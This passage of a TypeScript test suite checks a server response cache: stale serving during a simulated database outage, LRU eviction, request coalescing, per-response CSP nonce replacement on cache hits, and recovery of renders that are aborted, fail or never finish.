    const server = express();
    server.use(cache.middleware);
    server.get('/page', (_req, res) => {
      renders += 1;
      if (!feed.databaseReachable) return void res.status(503).type('html').send('<p>outage</p>');
      res.type('html').send(`<p>render ${renders}</p>`);
    });
    const listening = createServer(server).listen(0, '127.0.0.1');
    await new Promise((resolve) => listening.once('listening', resolve));
    const url = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/page`;
    const get = async () => {
      const response = await fetch(url);
      return { status: response.status, cache: response.headers.get('x-cache'), text: await response.text() };
    };
    try {
      expect(await get()).toEqual({ status: 200, cache: 'MISS', text: '<p>render 1</p>' });
      feed.databaseReachable = false;
      await sleep(300); // past fresh and stale
      expect(await get()).toEqual({ status: 200, cache: 'STALE', text: '<p>render 1</p>' });
      expect(await get()).toEqual({ status: 200, cache: 'STALE', text: '<p>render 1</p>' });
      await sleep(100);
      expect(renders).toBe(1); // nothing rendered against a database that is away
      // back: the old answer is past its time again, and a new one is rendered
      feed.databaseReachable = true;
      expect((await get()).cache).toBe('MISS');
      expect(renders).toBe(2);
    } finally {
      listening.close();
      await cache.close();
    }
  });

  // PGlite runs in the test's own process: it cannot go away
  if (process.env.TEST_DATABASE_URL) it('the change feed reports the database away without dropping the cache, and purges everything once it is back', async () => {
    const name = new URL(app.databaseUrl).pathname.slice(1);
    const pool = new pg.Pool({ connectionString: app.databaseUrl, connectionTimeoutMillis: 500 });
    pool.on('error', () => undefined); // its idle connections are cut below, as in an outage
    const changes = createChangeFeed({ pool, pollMs: 20 });
    const cache = createResponseCache({ feed: changes });
    changes.onPurge((purge, origin) => void cache.purge(purge, origin));
    const admin = new pg.Client({ connectionString: process.env.TEST_DATABASE_URL });
    await admin.connect();
    const waitFor = async (condition: () => boolean, limitMs = 5_000) => {
      for (let waited = 0; !condition() && waited < limitMs; waited += 20) await sleep(20);
      return condition();
    };
    try {
      await changes.polled(); // its first connection made before the outage
      expect(changes.databaseReachable).toBe(true);
      const before = cache.generation;
      await admin.query(`ALTER DATABASE "${name}" ALLOW_CONNECTIONS false`);
      // The connections are cut again until the feed notices, as they stay cut in an outage. Cut once,
      // the feed went on answering for 5 s in one CI run: likely a connection that was still starting
      // up (past the ALLOW_CONNECTIONS check, not yet listed in pg_stat_activity) escaped the cut.
      for (let cuts = 0; changes.databaseReachable && cuts < 25; cuts++) {
        await admin.query('SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = $1 AND pid <> pg_backend_pid()', [name]);
        await waitFor(() => !changes.databaseReachable, 200);
      }
      expect(changes.databaseReachable).toBe(false);
      expect(cache.generation).toBe(before);
      await admin.query(`ALTER DATABASE "${name}" ALLOW_CONNECTIONS true`);
      expect(await waitFor(() => changes.databaseReachable)).toBe(true);
      expect(cache.generation).toBeGreaterThan(before);
    } finally {
      await admin.query(`ALTER DATABASE "${name}" ALLOW_CONNECTIONS true`);
      await admin.end();
      await cache.close();
      await changes.close();
      await pool.end();
    }
  });
});

describe('memory bound', () => {
  it('keeps at most maxBytes of answers: the least recently used go first', async () => {
    const feed = { databaseReachable: true };
    // three 1 000-character pages fit into 6 000 counted bytes (2 a character), a fourth pushes the oldest out
    const cache = createResponseCache({ feed, maxBytes: 6_500 });
    const server = express();
    server.use(cache.middleware);
    server.get('/page', (req, res) => void res.type('html').send(String(req.query.n).padEnd(1000, '.')));
    const listening = createServer(server).listen(0, '127.0.0.1');
    await new Promise((resolve) => listening.once('listening', resolve));
    const base = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/page?n=`;
    const state = async (n: number) => (await fetch(base + n)).headers.get('x-cache');
    try {
      expect([await state(1), await state(2), await state(3)]).toEqual(['MISS', 'MISS', 'MISS']);
      expect([await state(2), await state(3)]).toEqual(['HIT', 'HIT']);
      expect(await state(4)).toBe('MISS'); // page 1, the least recently used, leaves
      expect([await state(3), await state(4), await state(1)]).toEqual(['HIT', 'HIT', 'MISS']);
    } finally {
      listening.close();
      await cache.close();
    }
  });
});

describe('requests that miss together', () => {
  it('one render for the same answer asked for at once: the others get what it stored; an answer not stored is rendered by each', async () => {
    const feed = { databaseReachable: true };
    const cache = createResponseCache({ feed });
    let release = () => undefined as void;
    const released = new Promise<void>((resolve) => (release = resolve));
    const renders: string[] = [];
    const server = express();
    server.use(cache.middleware);
    server.get('/page', async (req, res) => {
      renders.push(String(req.query.n));
      await released;
      // the private page says so, as a page that reads the session does
      if (req.query.n === 'private') res.setHeader('Cache-Control', 'private, no-store');
      res.type('html').send(`<p>${String(req.query.n)}</p>`);
    });
    const listening = createServer(server).listen(0, '127.0.0.1');
    await new Promise((resolve) => listening.once('listening', resolve));
    const base = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/page?n=`;
    const ask = async (n: string) => {
      const response = await fetch(base + n);
      return [response.headers.get('x-cache'), await response.text()];
    };
    try {
      const answers = [ask('a'), ask('a'), ask('a'), ask('private'), ask('private')];
      await vi.waitFor(() => expect(renders.toSorted()).toEqual(['a', 'private']));
      release();
      expect(await Promise.all(answers)).toEqual([
        ['MISS', '<p>a</p>'],
        ['HIT', '<p>a</p>'],
        ['HIT', '<p>a</p>'],
        ['MISS', '<p>private</p>'],
        ['MISS', '<p>private</p>'],
      ]);
      // the second request for the private page rendered it itself, once the first was done
      expect(renders.toSorted()).toEqual(['a', 'private', 'private']);
    } finally {
      listening.close();
      await cache.close();
    }
  });
});

describe("a hit's nonce (issue 40, item 8)", () => {
  it('goes only where the render put its own: a parameter the page shows, whatever it holds, never gets it', async () => {
    const feed = { databaseReachable: true };
    const cache = createResponseCache({ feed });
    const server = express();
    server.use((_req, res, next) => {
      res.locals.nonce = randomUUID().replaceAll('-', '').slice(0, 24);
      next();
    });
    server.use(cache.middleware);
    // a search page that shows what was asked (as the shop's search box does)
    server.get('/hledat', (req, res) => void res.type('html').send(`<script nonce="${res.locals.nonce as string}">run()</script><input value="${String(req.query.q)}">`));
    const listening = createServer(server).listen(0, '127.0.0.1');
    await new Promise((resolve) => listening.once('listening', resolve));
    const url = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/hledat?q=`;
    const page = /^<script nonce="(\w{24})">run\(\)<\/script><input value="(.*)">$/s;
    try {
      // the fixed placeholder of before, and a nonce of the shop's length and alphabet
      for (const typed of ['\u0000nonce\u0000', 'abcdefabcdefabcdefabcdef']) {
        const answers = [];
        for (let i = 0; i < 2; i += 1) {
          const response = await fetch(url + encodeURIComponent(typed));
          answers.push({ cache: response.headers.get('x-cache'), parts: page.exec(await response.text())?.slice(1) });
        }
        expect(answers.map((answer) => answer.cache)).toEqual(['MISS', 'HIT']);
        const [[firstNonce, firstTyped], [hitNonce, hitTyped]] = answers.map((answer) => answer.parts!);
        expect([firstTyped, hitTyped]).toEqual([typed, typed]);
        expect(hitNonce).not.toBe(firstNonce);
      }
    } finally {
      listening.close();
      await cache.close();
    }
  });
});

describe("a hit's page in one piece (issue 41, item 3)", () => {
  it('goes out as one buffer with its own nonce in every place, also while earlier hits of it are still being sent', async () => {
    const cache = createResponseCache({ feed: { databaseReachable: true } });
    const server = express();
    // each response's writes before its end: a page written piece by piece around its nonces counts 40
    const writes: number[] = [];
    server.use((_req, res, next) => {
      res.locals.nonce = randomUUID().replaceAll('-', '').slice(0, 24);
      // the response's nonce as its CSP header carries it in the shop
      res.setHeader('X-Nonce', res.locals.nonce as string);
      let count = 0;
      const write = res.write.bind(res) as (...args: unknown[]) => boolean;
      res.write = ((...args: unknown[]) => {
        count += 1;
        return write(...args);
      }) as typeof res.write;
      res.once('finish', () => writes.push(count));
      next();
    });
    server.use(cache.middleware);
    // twenty scripts, 3 MiB: more than a socket takes at once, so a hit is still being sent when the next begins
    const filler = 'x'.repeat(150_000);
    server.get('/stranka', (_req, res) => void res.type('html').send(Array.from({ length: 20 }, () => `<script nonce="${res.locals.nonce as string}">run()</script>${filler}`).join('')));
    const listening = createServer(server).listen(0, '127.0.0.1');
    await new Promise((resolve) => listening.once('listening', resolve));
    const port = (listening.address() as AddressInfo).port;
    /** Requests sent at once on their own connections, read only after all were sent. */
    const wave = async (count: number) => {
      const sockets = Array.from({ length: count }, () => connect(port, '127.0.0.1'));
      const received = sockets.map((socket) => {
        socket.pause();
        const chunks: Buffer[] = [];
        socket.on('data', (chunk: Buffer) => chunks.push(chunk));
        socket.write('GET /stranka HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n');
        return new Promise<string>((resolve) => socket.once('end', () => resolve(Buffer.concat(chunks).toString('latin1'))));
      });
      await sleep(300);
      for (const socket of sockets) socket.resume();
      return (await Promise.all(received)).map((text) => {
        const [head, body] = [text.slice(0, text.indexOf('\r\n\r\n')), text.slice(text.indexOf('\r\n\r\n') + 4)];
        return { cache: /^x-cache: (\w+)/im.exec(head)?.[1], policy: /^x-nonce: (\w+)/im.exec(head)?.[1], nonces: [...body.matchAll(/nonce="(\w+)"/g)].map((match) => match[1]), length: body.length };
      });
    };
    try {
      const rendered = await fetch(`http://127.0.0.1:${port}/stranka`);
      const renderedNonce = /nonce="(\w+)"/.exec(await rendered.text())![1];
      expect(rendered.headers.get('x-cache')).toBe('MISS');
      // the second wave takes the copies the first one sent, once those have gone out
      for (const count of [8, 8]) {
        writes.length = 0;
        const hits = await wave(count);
        for (const hit of hits) {
          expect([hit.cache, hit.length, hit.nonces.length]).toEqual(['HIT', 20 * (filler.length + 55), 20]);
          expect(new Set(hit.nonces)).toEqual(new Set([hit.policy]));
        }
        expect(new Set(hits.map((hit) => hit.policy)).size).toBe(count);
        expect(hits.map((hit) => hit.policy)).not.toContain(renderedNonce);
        expect(writes).toEqual(Array.from({ length: count }, () => 0));
      }
    } finally {
      listening.close();
      await cache.close();
    }
  });
});

describe('a render in flight ends with its response, whatever happens to it (issue 40, item 4)', () => {
  const feed = { databaseReachable: true };
  /** How the test finishes a render: it gets the request's response (a throw is the render failing). */
  type Finish = (res: express.Response) => void;

  /**
   * The cache in front of a page whose every render waits for the test to finish it (`renders`, in
   * order). A render that waited for another render's entry longer than the test's wait would start
   * only after `renderWaitMs`; each test checks that the next render starts at once.
   */
  async function pageServer(renderWaitMs: number) {
    const cache = createResponseCache({ feed, renderWaitMs });
    const renders: Array<{ finish: (how: Finish) => void; res: express.Response }> = [];
    const server = express();
    server.use(cache.middleware);
    server.get('/page', async (_req, res) => {
      const how = await new Promise<Finish>((resolve) => renders.push({ finish: resolve, res }));
      how(res);
    });
    // a render that throws reaches the app's error handler, which answers
    server.use((_error: unknown, _req: express.Request, res: express.Response, _next: express.NextFunction) => void res.status(500).type('text').send('error'));
    const listening = createServer(server).listen(0, '127.0.0.1');
    await new Promise((resolve) => listening.once('listening', resolve));
    let closedConnections = 0;
    listening.on('connection', (socket: Socket) => socket.once('close', () => (closedConnections += 1)));
    const url = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/page`;
    const ask = async (signal?: AbortSignal) => {
      const response = await fetch(url, { signal });
      return [response.headers.get('x-cache'), await response.text()];
    };
    /** A request whose client goes away before any answer: `giveUp` resolves once the server saw its connection close. */
    const askAndGiveUp = () => {
      const controller = new AbortController();
      const asked = ask(controller.signal).catch(() => 'given up');
      const giveUp = async () => {
        const closed = closedConnections;
        controller.abort();
        await vi.waitFor(() => expect(closedConnections).toBe(closed + 1), { interval: 10 });
      };
      return { giveUp, asked };
    };
    /** The next render starts at once and is the one in flight: a request meanwhile is served what it stores. */
    const nextRenderIsInFlight = async () => {
      const before = renders.length;
      const first = ask();
      await vi.waitFor(() => expect(renders.length).toBe(before + 1), { timeout: 2000, interval: 10 });
      const second = ask();
      await sleep(100); // the second request is waiting for the first's render
      renders[before].finish((res) => void res.type('html').send('<p>rendered</p>'));
      expect(await Promise.all([first, second])).toEqual([
        ['MISS', '<p>rendered</p>'],
        ['HIT', '<p>rendered</p>'],
      ]);
      expect(renders.length).toBe(before + 1);
    };
    return {
      renders,
      ask,
      askAndGiveUp,
      nextRenderIsInFlight,
      close: async () => {
        listening.closeAllConnections();
        listening.close();
        await cache.close();
      },
    };
  }

  // a wait far longer than each test: a render held by a leftover entry would not start in time
  const LONG_WAIT = 60_000;

  it('a render that answers (finish): the next request renders at once', async () => {
    const page = await pageServer(LONG_WAIT);
    try {
      const asked = page.ask();
      await vi.waitFor(() => expect(page.renders.length).toBe(1));
      // Cache-Control private: not stored, so the next request renders again
      page.renders[0].finish((res) => void res.setHeader('Cache-Control', 'private, no-store').type('html').send('<p>private</p>'));
      expect(await asked).toEqual(['MISS', '<p>private</p>']);
      await page.nextRenderIsInFlight();
    } finally {
      await page.close();
    }
  });

  it('a render whose client goes away meanwhile (close): the next request renders at once', async () => {
    const page = await pageServer(LONG_WAIT);
    try {
      const { giveUp, asked } = page.askAndGiveUp();
      await vi.waitFor(() => expect(page.renders.length).toBe(1));
      await giveUp();
      expect(await asked).toBe('given up');
      await page.nextRenderIsInFlight();
      // the abandoned render, finished late, stores nothing over the new one's answer
      page.renders[0].finish((res) => void res.type('html').send('<p>late</p>'));
    } finally {
      await page.close();
    }
  });

  it('a render whose response fails (error, destroyed): the next request renders at once', async () => {
    const page = await pageServer(LONG_WAIT);
    try {
      const asked = page.ask().catch(() => 'failed');
      await vi.waitFor(() => expect(page.renders.length).toBe(1));
      page.renders[0].finish((res) => void res.destroy(new Error('the socket failed')));
      expect(await asked).toBe('failed');
      await page.nextRenderIsInFlight();
    } finally {
      await page.close();
    }
  });

  it('a render that throws: the app answers 500 and the next request renders at once', async () => {
    const page = await pageServer(LONG_WAIT);
    try {
      const asked = page.ask();
      await vi.waitFor(() => expect(page.renders.length).toBe(1));
      page.renders[0].finish(() => {
        throw new Error('the render failed');
      });
      expect(await asked).toEqual(['MISS', 'error']);
      await page.nextRenderIsInFlight();
    } finally {
      await page.close();
    }
  });

  it('a request whose client gave up while it waited for another render (abort): its own render does not hold the page', async () => {
    const page = await pageServer(LONG_WAIT);
    try {
      const first = page.ask();
      await vi.waitFor(() => expect(page.renders.length).toBe(1));
      // the second waits for the first render, and its client gives up meanwhile
      const { giveUp, asked } = page.askAndGiveUp();
      await sleep(100);
      await giveUp();
      expect(await asked).toBe('given up');
      // the first stores nothing: the second renders for nobody; its response closed before its render began
      page.renders[0].finish((res) => void res.setHeader('Cache-Control', 'private, no-store').type('html').send('<p>private</p>'));
      expect(await first).toEqual(['MISS', '<p>private</p>']);
      await vi.waitFor(() => expect(page.renders.length).toBe(2));
      await page.nextRenderIsInFlight();
      page.renders[1].finish((res) => void res.type('html').send('<p>late</p>'));
    } finally {
      await page.close();
    }
  });

  it('a render that never answers holds the page at most the wait; then a new render takes its place', async () => {
    const page = await pageServer(300);
    try {
      const { giveUp, asked } = page.askAndGiveUp();
      await vi.waitFor(() => expect(page.renders.length).toBe(1));
      await sleep(400);
      // older than the wait: the next render does not wait for it, and is the one others wait for
      await page.nextRenderIsInFlight();
      await giveUp();
      await asked;
    } finally {
      await page.close();
    }
  });
});

/** A TCP proxy to `target` that a test cuts (Redis away from an instance, its data kept) and restores on the same port. */
async function cuttableProxy(target: URL) {
  const sockets = new Set<Socket>();
  const server = createNetServer((client) => {
    const upstream = connect(Number(target.port || 6379), target.hostname);
    for (const socket of [client, upstream]) {
      sockets.add(socket);
      socket.once('close', () => sockets.delete(socket));
      socket.on('error', () => undefined);
    }
    client.pipe(upstream).pipe(client);
  });
  const listen = (port: number) => new Promise<number>((resolve) => server.listen(port, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
  const port = await listen(0);
  return {
    port,
    cut: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        if (server.listening) server.close(() => resolve());
        else resolve();
      }),
    restore: () => listen(port).then(() => undefined),
  };
}
